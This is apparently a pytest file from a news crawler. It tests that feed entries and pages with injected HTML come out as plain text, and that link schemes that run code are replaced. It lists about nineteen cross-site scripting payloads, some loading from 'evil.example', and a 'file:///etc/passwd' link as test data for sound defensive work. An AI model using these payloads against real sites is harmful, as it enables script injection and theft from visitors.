"""Rows 46 to 48 and 52 of the matrix of faults and attacks: what a page, an entry or a title holds
comes out as words alone.
"""

import json

import pytest

from monitor.assess import assess
from monitor.extract.entries import read_entry
from spiders.kinds.feeds import read_feed
from spiders.records import Entry, Role
from tests.monitor.page_makers import (
    ENGLISH,
    URL,
    WordMatcher,
    article_page,
    make_page,
    make_source,
)

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<img src=https://evil.example/pixel.png onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<a href='javascript:alert(1)'>",
    "<a href='data:text/html,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=//evil.example/x></template>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "<video poster=//evil.example/x.png><source src=//evil.example/x.mp4></video>",
)
FORBIDDEN = ("evil.example", "onerror", "onload", "onfocus", "javascript:", "data:text", "<")


def said_by(words: str) -> list[str]:
    return [sign for sign in FORBIDDEN if sign in words]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_an_entry_leaves_its_words_alone(attack: str) -> None:
    entry = Entry(url=URL, title=f"Deputy {attack} freed", summary=f"A court {attack} spoke.")
    read = read_entry(entry)
    assert read is not None and "Deputy" in read.title
    assert said_by(read.title + read.text) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_page_leaves_its_words_alone(attack: str) -> None:
    markup = article_page("Governor set free", "", (*ENGLISH, f"They left {attack} together."))
    found = assess(make_page(markup), make_source(), WordMatcher())
    (each,) = found.documents
    assert said_by(each.document.title + each.document.text) == []


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//u:p@evil.example/"]
)
def test_an_entry_with_a_link_that_runs_gets_the_address_of_its_page(link: str) -> None:
    page = make_page(b"", role=Role.ENTRIES, entries=(Entry(url=link, title="Deputy freed"),))
    (each,) = assess(page, make_source(), WordMatcher()).documents
    assert each.url.startswith("https://news.example.org/")


def test_row_52_an_escaped_headline_is_decoded_once() -> None:
    body = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "t" * 200,
        "items": [{"url": "/1", "title": "Law &amp;amp; order &amp;lt;script&amp;gt;"}],
    }
    (entry,) = read_feed(json.dumps(body).encode(), base="https://a.kz/feed").entries
    read = read_entry(entry)
    assert read is not None
    assert read.title == "Law &amp; order &lt;script&gt;"
